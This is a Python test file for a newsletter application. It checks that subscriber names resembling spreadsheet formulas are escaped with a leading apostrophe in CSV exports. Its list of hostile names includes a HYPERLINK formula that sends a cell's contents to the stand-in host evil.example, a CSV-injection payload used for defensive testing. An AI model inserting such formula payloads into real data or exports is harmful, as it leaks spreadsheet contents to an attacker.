"""#19: an anonymous subscriber named like a spreadsheet formula comes out of the subscriber export (API and
screen) as text: a cell that starts with = + - @ is written with a leading apostrophe."""

import csv
import io

from newsletter.bootstrap import SPEC

from ..helpers import add_topics, sink_settings

EDITOR = ("newsletter.editor",)
SUBSCRIBE = {"topics": ["jugend"], "language": "de", "consent": True, "consent_text_version": "2026-01",
             "form": "website"}
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A2,"Klick")', "+49 8341 1234", "-Eva", "@SUM(A1)"]


def test_the_subscriber_export_writes_formulas_as_text(make_client, smtp_sink, auth_header):
    client, rt = make_client(SPEC, **sink_settings(smtp_sink))
    add_topics(rt)
    for i, name in enumerate(HOSTILE_NAMES):
        resp = client.post("/api/newsletter/public/subscriptions",
                           json={**SUBSCRIBE, "email": f"s{i}@example.org", "name": name})
        assert resp.status_code == 202, resp.json
    for url in ("/api/newsletter/subscribers/export.csv", "/intern/newsletter/abonnenten/export.csv"):
        resp = client.get(url, headers={**auth_header(*EDITOR), "Accept": "text/html"})
        assert resp.status_code == 200 and resp.mimetype == "text/csv", url
        header, *rows = csv.reader(io.StringIO(resp.data.decode("utf-8-sig")), delimiter=";")
        names = {row[header.index("email")]: row[header.index("name")] for row in rows}
        assert names == {f"s{i}@example.org": "'" + name for i, name in enumerate(HOSTILE_NAMES)}
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
